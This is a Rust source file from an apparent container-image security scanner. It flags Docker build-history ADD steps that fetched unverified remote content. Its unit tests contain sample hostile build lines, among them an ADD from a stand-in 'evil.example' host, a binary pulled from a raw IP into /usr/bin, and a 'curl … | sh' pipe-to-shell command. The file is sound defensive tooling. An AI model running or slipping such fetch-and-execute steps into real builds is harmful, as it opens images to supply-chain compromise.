//! Reads the image config and build history: what the image runs goes into the report, and
//! build steps that pulled unverified remote content are flagged.

use customs_core::{Confidence, Severity, attack};

use crate::{ImageAnalysis, ImageAnalyzer, ImageView, Rule};

const REMOTE_ADD: Rule = Rule {
    id: "history-remote-add",
    title: "Build step added content straight from a URL",
    severity: Severity::Low,
    confidence: Confidence::Medium,
    attack: &[attack::MALICIOUS_IMAGE],
    description: "An ADD instruction fetched remote content at build time without a checksum; \
        whoever controlled that URL controlled the image. Check what the URL served.",
};

pub(crate) struct ConfigHistory;

/// The URL of a `ADD http…` step, as Docker records it in history.
fn remote_add(created_by: &str) -> Option<&str> {
    let s = created_by
        .trim_start()
        .strip_prefix("/bin/sh -c #(nop) ")
        .unwrap_or(created_by)
        .trim_start();
    let rest = s.strip_prefix("ADD ")?;
    rest.split_whitespace()
        .filter(|w| !w.starts_with("--"))
        .find(|w| w.starts_with("http://") || w.starts_with("https://"))
}

impl ImageAnalyzer for ConfigHistory {
    fn id(&self) -> &'static str {
        "config-history"
    }
    fn version(&self) -> u32 {
        1
    }
    fn analyze(&self, view: &ImageView<'_>, out: &mut ImageAnalysis) {
        let Some(config) = &view.image.config else {
            return;
        };
        out.config = Some(config.summary());
        for step in config
            .history
            .iter()
            .filter_map(|h| h.created_by.as_deref())
        {
            if let Some(url) = remote_add(step) {
                out.findings
                    .push(REMOTE_ADD.finding(None, format!("ADD {url} (history: {})", clip(step))));
            }
        }
    }
}

fn clip(s: &str) -> String {
    const MAX: usize = 200;
    if s.len() <= MAX {
        return s.to_string();
    }
    let mut end = MAX;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &s[..end])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_remote_add_only() {
        assert_eq!(
            remote_add("/bin/sh -c #(nop) ADD https://evil.example/x.tgz /opt/"),
            Some("https://evil.example/x.tgz")
        );
        assert_eq!(
            remote_add("ADD --chown=0:0 http://203.0.113.7/m /usr/bin/m # buildkit"),
            Some("http://203.0.113.7/m")
        );
        assert_eq!(remote_add("/bin/sh -c #(nop) ADD file:abc in / "), None);
        assert_eq!(remote_add("RUN curl https://x.example | sh"), None);
        assert_eq!(remote_add("COPY https-notes.txt /"), None);
    }
}
